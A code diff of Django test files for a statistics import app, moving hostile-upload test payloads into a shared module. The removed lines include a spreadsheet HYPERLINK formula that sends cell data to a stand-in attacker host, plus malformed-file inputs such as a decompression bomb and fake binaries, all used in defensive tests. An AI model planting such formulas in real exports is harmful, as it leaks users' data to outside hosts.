@@ -27,36 +27,17 @@ from losen.apps.insight.models import ImportBatch, StoredObservation
 from losen.apps.insight.services import export_table, import_file, import_observations
 from losen.domain import indicators as ind
 
-from ...domain.indicators.hostile_files import random_bytes, shared_strings_bomb
+from ...domain.indicators.hostile_files import shared_strings_bomb
 from ...domain.indicators.shared_data import shared_bytes
+from ...hostile_imports import FORMULA, FORMULA_ROW, HOSTILE_FILES, import_files, template
+from ...hostile_imports import cube as shared_cube
 
 pytestmark = pytest.mark.django_db
 
-HEADER = "kilde;tabell;indikatorkode;indikatornavn;regionkode;periode;verdi;status;enhet\n"
-
-
-def template(*rows: str) -> bytes:
-    return (HEADER + "".join(row + "\n" for row in rows)).encode("utf-8")
-
 
 def cube(values) -> bytes:
-    """A JSON-stat cube of table 12345, Oslo and Bergen, two years."""
-    return json.dumps(
-        {
-            "version": "2.0",
-            "class": "dataset",
-            "label": "12345: Test",
-            "source": "Statistisk sentralbyrå",
-            "id": ["Region", "ContentsCode", "Tid"],
-            "size": [2, 1, 2],
-            "dimension": {
-                "Region": {"category": {"index": {"0301": 0, "4601": 1}}},
-                "ContentsCode": {"category": {"index": {"Personer": 0}}},
-                "Tid": {"category": {"index": {"2023": 0, "2024": 1}}},
-            },
-            "value": values,
-        }
-    ).encode()
+    """The shared cube (table 12345) with Oslo and Bergen."""
+    return shared_cube(values, regions=("0301", "4601"))
 
 
 def _state() -> tuple[int, int, list[tuple[str, str]]]:
@@ -161,11 +142,6 @@ def test_nul_and_lone_surrogates_are_refused_for_observations_from_code():
 
 # --- Exports neutralise formulas ---------------------------------------------------------------
 
-FORMULA = '=HYPERLINK("https://angriper.example/?"&A1,"Klikk")'
-FORMULA_ROW = (
-    'lokal;L1;a;"=HYPERLINK(""https://angriper.example/?""&A1,""Klikk"")";0301;2024;-12.5;;@SUM(A1)'
-)
-
 
 def test_formula_payloads_are_text_in_the_csv_export_and_numbers_stay_numbers():
     assert import_file(actor=None, data=template(FORMULA_ROW), file_name="f.csv").ok
@@ -252,41 +228,34 @@ def test_a_decompression_bomb_upload_is_refused_by_the_form_in_under_a_second(an
     )
 
 
-@pytest.mark.parametrize(
-    ("name", "body", "message"),
-    [
-        ("tilfeldig.csv", random_bytes(1024 * 1024), "så det er ikke en CSV- eller JSON-fil"),
-        (
-            "mal.csv",
-            ("kilde;tabell;indikatorkode;regionkode;periode;verdi\n").encode("utf-16"),
-            "fila er lagret som UTF-16; lagre den som UTF-8",
-        ),
-        ("falsk.xlsx", b"PK\x03\x04" + b"\x00" * 100, "er ikke en XLSX-fil"),
-        ("program.csv", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "ikke en CSV- eller JSON"),
-    ],
-)
-def test_uploads_that_are_not_what_they_claim_get_a_form_error(analyst, name, body, message):
-    response = _upload(analyst, name, body)
-    page = _page(response)
-    assert response.status_code == 200 and not response.streaming
-    assert message in page
-    assert StoredObservation.objects.count() == 0
+# The shared payloads (tests/hostile_imports.py): what the upload form says, as HTML.
+UPLOAD_MESSAGES = {
+    "random bytes": "så det er ikke en CSV- eller JSON-fil",
+    "NUL in a label": "inneholder et NUL-tegn",
+    "nested 100 000 deep": "nøstet mer enn",
+    "lone surrogate": "halvt surrogatpar",
+    "5000-digit number": "5000 tegn",
+    "region 9999": "regionkode &#x27;9999&#x27;",
+    "region abc": "regionkode &#x27;abc&#x27; finnes ikke",
+    "region -1": "regionkode &#x27;-1&#x27; finnes ikke",
+    "UTF-16": "fila er lagret som UTF-16; lagre den som UTF-8",
+    "three columns": "mangler kolonne(r): kilde, tabell",
+    "fake XLSX": "er ikke en XLSX-fil",
+    "a program": "ikke en CSV- eller JSON",
+}
 
 
-@pytest.mark.parametrize(
-    ("body", "message"),
-    [
-        (template("lokal;L1;a;A;9999;2024;1;;"), "line 2: regionkode &#x27;9999&#x27;"),
-        (b"regionkode;periode;verdi\n0301;2024;1\n", "mangler kolonne(r): kilde, tabell"),
-        (b'{"version": "2.0", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nøstet mer enn"),
-        (cube([1, 2, 3, None]).replace(b'"2024"', b'"\\ud800"'), "halvt surrogatpar"),
-    ],
-)
-def test_hostile_content_is_listed_as_problems_and_nothing_is_stored(analyst, body, message):
-    response = _upload(analyst, "fil.csv", body)
+def test_every_shared_payload_has_a_message_here():
+    assert set(UPLOAD_MESSAGES) == set(HOSTILE_FILES)
+
+
+@pytest.mark.parametrize("payload", sorted(UPLOAD_MESSAGES))
+def test_each_payload_uploaded_gets_a_form_error_and_stores_nothing(analyst, payload):
+    name = "fil.xlsx" if payload == "fake XLSX" else "fil.csv"
+    response = _upload(analyst, name, HOSTILE_FILES[payload])
     page = _page(response)
     assert response.status_code == 200
-    assert "Ingenting er lagret. Fila har disse feilene:" in page and message in page
+    assert UPLOAD_MESSAGES[payload] in page, page[:3000]
     assert StoredObservation.objects.count() == 0
 
 
@@ -317,19 +286,7 @@ def test_a_formula_label_uploaded_comes_out_neutralised_in_the_web_export(analys
 texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=10) | st.sampled_from(
     ["0301", "9999", "abc", "2024", "12,5", "..", ":", "=1+1", "\x00", "{}", "[]"]
 )
-files = (
-    st.binary(max_size=3000)
-    | st.lists(st.lists(texts, max_size=10), max_size=6).map(
-        lambda rows: "\n".join([HEADER.strip()] + [";".join(r) for r in rows]).encode(
-            "utf-8", "surrogatepass"
-        )
-    )
-    | st.recursive(
-        st.none() | st.integers() | st.floats() | texts,
-        lambda c: st.lists(c, max_size=4) | st.dictionaries(texts, c, max_size=4),
-        max_leaves=20,
-    ).map(lambda doc: json.dumps({"version": "2.0", "value": doc}).encode("utf-8", "surrogatepass"))
-)
+files = import_files(texts, key="value", max_leaves=20)
 
 
 @settings(
